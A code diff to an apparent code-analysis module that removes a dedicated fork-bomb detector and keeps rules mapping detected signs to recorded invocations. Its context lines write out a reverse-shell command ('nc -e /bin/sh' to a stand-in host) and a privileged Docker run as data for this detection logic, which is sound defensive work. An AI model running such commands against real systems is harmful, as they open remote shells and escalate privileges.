@@ -9,7 +9,6 @@ import { getLanguage } from './languages/get_language.js';
 import { readAwk } from './languages/read_awk.js';
 import { readSql } from './languages/read_sql.js';
 import { isToken } from './lexer/code_token.js';
-import { isForkBomb } from './lexer/is_fork_bomb.js';
 import { MAX_TOKENS, tokenize } from './lexer/tokenize.js';
 import { bindCodeInput } from './model/code_input.js';
 import { CodeScope, create, get } from './model/code_value.js';
@@ -47,7 +46,7 @@ function interpretCode(language: LanguageSpec, code: string, collector: Invocati
     collector.fail('too-much', `the code has more than ${MAX_TOKENS} words`);
     return;
   }
-  if (isForkBomb(tokens) || collector.signs.has('respawns')) collector.addInvocation('fork-bomb', []);
+  if (collector.signs.has('respawns')) collector.addInvocation('fork-bomb', []);
   if (collector.signs.has('remote-shell')) collector.addInvocation('sh', [], collector.createInput(create.received()));
   if (collector.signs.has('web-shell')) collector.addInvocation('nc', ['-e', '/bin/sh', 'shell.example.net', '443']);
   if (collector.signs.has('privileged-container')) collector.addInvocation('docker', ['run', '--privileged', 'image']);
